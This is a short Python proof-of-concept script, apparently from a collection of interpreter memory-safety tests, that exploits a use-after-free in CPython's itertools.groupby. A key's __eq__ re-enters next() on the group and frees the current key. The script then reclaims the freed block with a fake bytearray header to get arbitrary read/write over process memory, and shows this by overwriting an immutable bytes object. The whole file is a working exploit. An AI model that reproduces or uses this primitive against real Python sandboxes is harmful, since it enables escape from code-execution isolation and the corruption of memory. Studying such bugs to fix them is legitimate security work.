# family: wall (memory: gh-146613, a groupby's group re-entered from a key's __eq__)   goal: memory   interpreter: /usr/bin/python3
# A group (itertools._grouper) compares its target key with the groupby's current key
# as borrowed pointers; the target key's __eq__ calls next() on the same group, which
# takes the current item and drops the current key, and returns NotImplemented: the
# reflected __eq__ of the freed key then runs with it as `self`. Its 80-byte block is
# taken back by a bytearray's buffer holding a fake bytearray header (length 2**62,
# data at address 0): `self` is then a bytearray over all memory.
import itertools

W = lambda v: v.to_bytes(8, "little")
FAKE = bytes(16) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
keep = []
found = []


class Key:
    __slots__ = ("first", "b", "c", "d", "e")
    armed = [1]

    def __init__(self, first):
        self.first = first

    def __eq__(self, other):
        if Key.armed[0] == 2:              # the reflected call: self was freed
            Key.armed[0] = 3
            keep.append(bytearray(FAKE))   # its block, taken back
            if type(self) is bytearray:
                found.append(self)
            return False
        if self is other or Key.armed[0] == 3:
            return True
        if self.first and Key.armed[0] == 1:
            Key.armed[0] = 0
            next(group)          # takes the item, drops the current key
            Key.armed[0] = 2
            return NotImplemented
        return True


def keys():
    yield Key(True)
    while True:
        yield Key(False)


G = itertools.groupby(range(4), lambda x: next(ks))
ks = keys()
k, group = next(G)
next(group)
try:
    next(group)
except StopIteration:
    pass
if found:
    mem = found[0]
    victim = b"intact!!"
    mem[id(victim) + 32] = ord("X")
    print("victim:", victim)
    if victim.startswith(b"X"):
        print("MEMORY-OVERWRITTEN")
